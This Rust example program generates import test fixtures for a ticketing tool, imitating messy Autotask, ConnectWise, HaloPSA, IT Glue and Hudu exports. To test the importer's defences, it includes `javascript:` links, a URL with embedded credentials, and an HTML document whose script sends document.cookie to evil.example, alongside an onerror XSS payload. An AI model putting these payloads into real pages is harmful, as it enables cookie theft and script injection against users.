//! Writes the import fixtures in tests/fixtures/import/ (committed; run again after changing
//! this file): `cargo run -p ticketflow-core --example import_fixtures`.
//!
//! Each file is made from the columns the tool documents for its exports and import templates,
//! with the ugly parts real exports have: a UTF-8 BOM and CRLF (Autotask companies), Windows-1252
//! umlauts, a quoted newline, a duplicate id, an inactive and a terminated contact and a row for
//! a company nobody knows (Autotask contacts), a renamed required column (ConnectWise
//! configurations), "Inactive" users and an Excel date (HaloPSA XLSX), an IT Glue ZIP with
//! documents and the passwords.csv that must never be read, a UTF-16LE tab-separated "Unicode
//! text" file and a generic CSV.

use std::io::Write;
use std::path::{Path, PathBuf};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/import");
    for dir in [
        "autotask",
        "connectwise",
        "halo",
        "itglue",
        "utf16",
        "generic",
        "hudu",
    ] {
        std::fs::create_dir_all(root.join(dir))?;
    }
    let crlf = |lines: &[&str]| lines.join("\r\n") + "\r\n";

    // Autotask companies: UTF-8 with a BOM, CRLF (as Excel saves "CSV UTF-8").
    let companies = crlf(&[
        "Name,Number,Phone,Address 1,City,Postal Code,Country,Classification,Time Zone,External ID,Active",
        "\"Acme Dental, LLC\",1001,+1 555 0100,12 Main St,Springfield,12345,United States,Gold,America/New_York,AT-1001,True",
        "Müller Maschinenbau GmbH,1002,+49 30 1234567,Hauptstraße 5,Berlin,10115,Germany,Platinum,W. Europe Standard Time,AT-1002,True",
        "Old Client Inc,1003,,,,,,Bronze,(UTC-06:00) Central Time (US & Canada),AT-1003,False",
        "Diamond Partners,1004,,,,,,Diamond,America/Chicago,AT-1004,True",
        "Nowhere Ltd,1005,,,,,,Silver,Mars/Olympus_Mons,AT-1005,True",
        "Small Office,1006,,,,,,,,AT-1006,True",
    ]);
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend_from_slice(companies.as_bytes());
    write(&root.join("autotask/companies.csv"), &bytes)?;

    // Autotask contacts: Windows-1252 (Excel's plain "CSV" on a Western Windows), CRLF, with a
    // quoted newline inside the address, an inactive contact, a termination date (month/day),
    // a duplicate Contact ID, a contact of an unknown organization, a broken e-mail address and
    // an active contact of the inactive company.
    let contacts = crlf(&[
        "Contact ID,External ID,First Name,Last Name,Organization ID,Organization Name,Email Address,Phone,Address 1,Active,Termination Date",
        "201,,Dana,Reyes,AT-1001,\"Acme Dental, LLC\",dana.reyes@acmedental.example,+1 555 0101,\"12 Main St\r\nSuite 4\",True,",
        "202,,Jürgen,Müller,AT-1002,Müller Maschinenbau GmbH,j.mueller@mueller-mb.example,,Hauptstraße 5,True,",
        "203,,Lee,Park,AT-1001,\"Acme Dental, LLC\",lee.park@acmedental.example,,,False,",
        "204,,Sam,Ortiz,AT-1001,\"Acme Dental, LLC\",sam.ortiz@acmedental.example,,,True,03/15/2026",
        "202,,Jürgen,Müller,AT-1002,Müller Maschinenbau GmbH,juergen@mueller-mb.example,,,True,",
        "205,,Kim,Novak,AT-9999,Unknown Company Ltd,kim.novak@unknown.example,,,True,",
        "206,,Pat,Jones,AT-1001,\"Acme Dental, LLC\",pat.jones at acmedental,,,True,",
        // Active herself, but her company is inactive (Old Client Inc): refused at intake.
        "207,,Olga,Berg,AT-1003,Old Client Inc,olga.berg@oldclient.example,,,True,",
    ]);
    let (cp1252, _, unmappable) = encoding_rs::WINDOWS_1252.encode(&contacts);
    assert!(!unmappable, "the contacts fixture must be Windows-1252");
    write(&root.join("autotask/contacts.csv"), &cp1252)?;

    // ConnectWise companies: UTF-8 without a BOM, LF.
    let cw_companies = [
        "Company Identifier,Company,Status,Type,Phone,Time Zone,Territory",
        "AcmeDental,\"Acme Dental, LLC\",Active,Client,555-0100,Eastern Standard Time,East",
        "Contoso,Contoso Ltd,Inactive,Former Client,,Pacific Standard Time,West",
        "Fabrikam,Fabrikam Inc,Active,Client,,America/Denver,West",
    ]
    .join("\n")
        + "\n";
    write(
        &root.join("connectwise/companies.csv"),
        cw_companies.as_bytes(),
    )?;

    // ConnectWise configurations, exported from a view whose name column was renamed
    // ("Config Name"): the required hostname column is missing until it is mapped.
    let cw_configs = [
        "Config Name,Configuration Type,Status,Company Identifier,Company,Serial Number,Tag Number,Device Identifier",
        "ACME-FS01,Server,Active,AcmeDental,\"Acme Dental, LLC\",SN-8842,T-100,dev-1",
        "ACME-WS12,Workstation,Active,AcmeDental,\"Acme Dental, LLC\",SN-9911,T-101,",
        "CONTOSO-FW,Firewall,Active,Contoso,Contoso Ltd,FGT60F0001,T-200,",
    ]
    .join("\n")
        + "\n";
    write(
        &root.join("connectwise/configurations.csv"),
        cw_configs.as_bytes(),
    )?;

    halo_users(&root.join("halo/users.xlsx"))?;
    itglue_zip(&root.join("itglue/export.zip"))?;

    // UTF-16LE with a BOM, tab-separated: what Excel's "Unicode text" writes.
    let utf16 = crlf(&[
        "Name\tEmail\tCompany\tPhone",
        "Zoë Faure\tzoe.faure@angstrom.example\tÅngström AB\t+46 8 123 45",
        "Øyvind Berg\toyvind@angstrom.example\tÅngström AB\t",
    ]);
    let mut bytes = vec![0xFF, 0xFE];
    for unit in utf16.encode_utf16() {
        bytes.extend_from_slice(&unit.to_le_bytes());
    }
    write(&root.join("utf16/contacts.csv"), &bytes)?;

    // A generic CSV in the desk's own field names.
    let generic = [
        "hostname,company,serial,type,rmm url,assigned upn,notes",
        "FRONTDESK-01,\"Acme Dental, LLC\",5CD1234XYZ,Workstation,https://rmm.example/device/17,dana.reyes@acmedental.example,reception",
        "BACKUP-NAS,\"Acme Dental, LLC\",,NAS,javascript:alert(1),,",
        ",\"Acme Dental, LLC\",NOHOST,Printer,,,no hostname",
    ]
    .join("\n")
        + "\n";
    write(&root.join("generic/assets.csv"), generic.as_bytes())?;

    // A generic companies sheet with the clients' tool links (issue 15): PSA, remote access and
    // documentation columns the preset knows, an "RMM Site URL" that needs --map ...=tool_rmm,
    // a website that is no tool of the desk, and hostile links: a `javascript:` link and one
    // with a user name and password in it, each of which must refuse its row.
    let generic_companies = [
        "Name,External ID,Tier,Time Zone,PSA URL,Remote Access URL,Documentation URL,RMM Site URL,Website",
        "\"Acme Dental, LLC\",ACME,Gold,America/New_York,https://psa.msp.example/tickets/{psa_ticket},https://acme.screenconnect.example/Host#Access/All%20Machines//{hostname},https://docs.msp.example/a/acme-dental,https://rmm.msp.example/sites/acme/devices?q={hostname},https://acmedental.example",
        "Evil Corp,EVIL,Silver,,JavaScript:alert(document.cookie),,,,",
        "Creds Inc,CREDS,Bronze,,,https://admin:hunter2@remote.msp.example/host/{hostname},,,",
        "Plain Client,PLAIN,Silver,,,,,https://rmm.msp.example/sites/plain,https://plain.example",
    ]
    .join("\n")
        + "\n";
    write(
        &root.join("generic/companies.csv"),
        generic_companies.as_bytes(),
    )?;

    // Hudu's companies: `full_url` is the company's page in Hudu, i.e. its documentation;
    // `website` is the client's own site and stays unmapped.
    let hudu_companies = [
        "id,name,nickname,company_type,id_number,phone_number,website,archived,full_url",
        "11,Acme Dental LLC,Acme,Customer,ACME-1,555-0100,https://acmedental.example,false,https://docs.msp.example/c/acme-dental-llc",
        "12,Contoso Ltd,Contoso,Customer,CONT-1,,https://contoso.example,true,https://docs.msp.example/c/contoso-ltd",
        "13,Fabrikam Inc,Fab,Customer,FAB-1,,,false,",
    ]
    .join("\n")
        + "\n";
    write(&root.join("hudu/companies.csv"), hudu_companies.as_bytes())?;
    println!("fixtures written to {}", root.display());
    Ok(())
}

fn write(path: &PathBuf, bytes: &[u8]) -> std::io::Result<()> {
    std::fs::write(path, bytes)
}

/// id, name, client, site, e-mail, phone, network login, inactive, leaver date, job title.
type HaloUser = (
    u32,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    bool,
    Option<(u16, u8, u8)>,
    &'static str,
);

/// HaloPSA's user export: "Inactive" as real booleans, ids as numbers, a leaver date as an Excel
/// date cell.
fn halo_users(path: &Path) -> Result<(), Box<dyn std::error::Error>> {
    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Users")?;
    let headers = [
        "ID",
        "Name",
        "Client Name",
        "Site Name",
        "Email Address",
        "Phone Number",
        "Network Login",
        "Inactive",
        "Leaver Date",
        "Job Title",
    ];
    for (c, h) in headers.iter().enumerate() {
        sheet.write_string(0, c as u16, *h)?;
    }
    let date = Format::new().set_num_format("yyyy-mm-dd");
    let users: [HaloUser; 4] = [
        (
            1,
            "Alex Kim",
            "Acme Dental LLC",
            "Main",
            "alex.kim@acmedental.example",
            "555 0102",
            "alex.kim@acmedental.example",
            false,
            None,
            "Office Manager",
        ),
        (
            2,
            "Bea Schulz",
            "Müller Maschinenbau GmbH",
            "Berlin",
            "b.schulz@mueller-mb.example",
            "",
            "bschulz@mueller-mb.example",
            true,
            None,
            "Buchhaltung",
        ),
        (
            3,
            "Chris Wu",
            "Acme Dental LLC",
            "Main",
            "chris.wu@acmedental.example",
            "",
            "",
            false,
            Some((2026, 2, 28)),
            "Hygienist",
        ),
        (
            4,
            "Dee Noone",
            "",
            "",
            "dee@nowhere.example",
            "",
            "",
            false,
            None,
            "Contractor",
        ),
    ];
    for (i, u) in users.iter().enumerate() {
        let r = i as u32 + 1;
        sheet.write_number(r, 0, u.0)?;
        for (c, text) in [
            (1, u.1),
            (2, u.2),
            (3, u.3),
            (4, u.4),
            (5, u.5),
            (6, u.6),
            (9, u.9),
        ] {
            if !text.is_empty() {
                sheet.write_string(r, c, text)?;
            }
        }
        sheet.write_boolean(r, 7, u.7)?;
        if let Some((y, m, d)) = u.8 {
            sheet.write_datetime_with_format(r, 8, ExcelDateTime::from_ymd(y, m, d)?, &date)?;
        }
    }
    book.save(path)?;
    Ok(())
}

/// An IT Glue export: organizations, contacts, configurations, passwords (never read) and
/// documents as HTML, one per organization folder and one desk-wide.
fn itglue_zip(path: &Path) -> Result<(), Box<dyn std::error::Error>> {
    use zip::write::SimpleFileOptions;
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path)?);
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let files: [(&str, &str); 6] = [
        (
            "organizations.csv",
            "id,name,organization_type_name,organization_status_name,short_name,primary_phone\n\
             1001,Acme Dental LLC,Customer,Active,ACME,555-0100\n\
             1002,Contoso Ltd,Customer,Inactive,CONT,\n",
        ),
        (
            "contacts.csv",
            "id,organization_id,organization_name,first_name,last_name,title,contact_type_name,contact_emails,contact_phones\n\
             501,1001,Acme Dental LLC,Dana,Reyes,Dentist,Employee,\"dana@acmedental.example, d.reyes@acmedental.example\",555-0101\n\
             502,9999,Ghost Org,Sam,Lost,,Employee,sam@ghost.example,\n",
        ),
        (
            "configurations.csv",
            "id,organization_id,organization_name,name,hostname,configuration_type_name,configuration_status_name,serial_number,asset_tag\n\
             701,1001,Acme Dental LLC,Front desk PC,ACME-WS01,Workstation,Active,SN-1,AT-1\n\
             702,1001,Acme Dental LLC,Firewall,ACME-FW,Firewall,Active,FGT-2,AT-2\n",
        ),
        (
            "passwords.csv",
            "id,organization_id,name,username,password\n9001,1001,Domain admin,administrator,Hunter2!NeverImport\n",
        ),
        (
            "documents/Acme Dental LLC/VPN setup.html",
            "<!DOCTYPE html><html><head><title>VPN setup</title><style>body{font:12px}</style>\
             <script>document.location='https://evil.example/?'+document.cookie</script></head>\
             <body><h1>VPN setup</h1><p>Install the client from <a href=\"https://vpn.example\">the portal</a>, \
             then sign in as <b>DOMAIN\\user</b>.</p><ol><li>Open FortiClient</li><li>Connect &rarr; &quot;Acme&quot;</li></ol>\
             <table><tr><th>Gateway</th><th>Port</th></tr><tr><td>vpn.acme.example</td><td>443</td></tr></table>\
             <img src=x onerror=\"alert(1)\"></body></html>",
        ),
        (
            "documents/Printer guide.html",
            "<html><body><h1>Printer guide</h1><p>Restart the spooler: <code>net stop spooler</code>.</p></body></html>",
        ),
    ];
    for (name, text) in files {
        zip.start_file(name, options)?;
        zip.write_all(text.as_bytes())?;
    }
    zip.finish()?;
    Ok(())
}
